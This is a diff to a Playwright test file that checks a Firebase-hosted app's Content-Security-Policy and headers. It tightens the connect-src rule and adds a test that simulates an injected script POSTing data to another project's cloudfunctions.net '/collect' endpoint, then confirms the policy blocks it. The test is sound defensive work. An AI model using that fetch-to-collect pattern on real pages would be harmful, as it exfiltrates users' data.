@@ -1,7 +1,9 @@
 /**
- * The production build as Firebase Hosting serves it (tools/serveDist.ts applies firebase.json's
- * hosting section): every screen works with the Content-Security-Policy enforced, the caching
- * and security headers are there, a missing asset is a 404, and no source map is public.
+ * The production build as Firebase Hosting serves it (tools/serveDist.ts applies the hosting
+ * section the build wrote beside itself: firebase.json with the build's own origins in the CSP,
+ * tools/hostingConfig.ts): every screen works with the Content-Security-Policy enforced, another
+ * project's functions are out of reach, the caching and security headers are there, a missing
+ * asset is a 404, and no source map is public.
  */
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -26,7 +28,7 @@ async function open(page: Page, path: string) {
   await expect(page.locator('.animate-pulse')).toHaveCount(0);
 }
 
-test('the firebase.json policy allows only the app and the Firebase endpoints it uses', () => {
+test("the firebase.json policy allows only the app and Google's Auth and Firestore endpoints; each build adds its own functions", () => {
   const directives = new Map(CONFIGURED_CSP.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name!, values]));
   expect(directives.get('default-src')).toEqual(["'self'"]);
   expect(directives.get('script-src')).toEqual(["'self'"]);
@@ -35,12 +37,12 @@ test('the firebase.json policy allows only the app and the Firebase endpoints it
     'https://identitytoolkit.googleapis.com',
     'https://securetoken.googleapis.com',
     'https://firestore.googleapis.com',
-    'https://*.cloudfunctions.net',
   ]);
   expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
   expect(directives.get('object-src')).toEqual(["'none'"]);
   expect(directives.get('base-uri')).toEqual(["'self'"]);
   expect(CONFIGURED_CSP).not.toContain('127.0.0.1');
+  expect(CONFIGURED_CSP).not.toContain('cloudfunctions');
 });
 
 test("a parent's screens load with the CSP enforced: no violation, no console error", async ({ page }) => {
@@ -65,6 +67,16 @@ test("the admin's screen loads with the CSP enforced: no violation, no console e
   expect(problems).toEqual([]);
 });
 
+test("the policy keeps a script in the page from reaching another project's functions", async ({ page }) => {
+  const problems = await watchForProblems(page);
+  await page.goto('/login');
+  const elsewhere = 'https://europe-west1-another-project.cloudfunctions.net';
+  // What an injected script would do with a parent's data; without the policy it would leave.
+  const sent = await page.evaluate((url) => fetch(`${url}/collect`, { method: 'POST', body: 'data' }).then(() => true, () => false), elsewhere);
+  expect(sent).toBe(false);
+  await expect.poll(() => problems.some((problem) => problem.startsWith(`CSP: connect-src blocked ${elsewhere}/collect`))).toBe(true);
+});
+
 test('headers: the policy on every response, index.html revalidated, hashed assets immutable', async ({ request }) => {
   const index = readFileSync(join(HOSTING_DIST, 'index.html'), 'utf8');
   const script = index.match(/src="(\/assets\/[^"]+\.js)"/)?.[1];
@@ -74,7 +86,7 @@ test('headers: the policy on every response, index.html revalidated, hashed asse
     const response = await request.get(path);
     expect(response.status(), path).toBe(200);
     const headers = response.headers();
-    // The only difference to firebase.json: the test server lets the demo build reach the emulators.
+    // The only difference to firebase.json: the demo build's generated configuration lets it reach the emulators.
     expect(headers['content-security-policy'], path).toBe(CONFIGURED_CSP.replace(/(connect-src [^;]*)/, `$1 ${EMULATOR_ORIGINS}`));
     expect(headers['referrer-policy'], path).toBe('strict-origin-when-cross-origin');
     expect(headers['x-content-type-options'], path).toBe('nosniff');
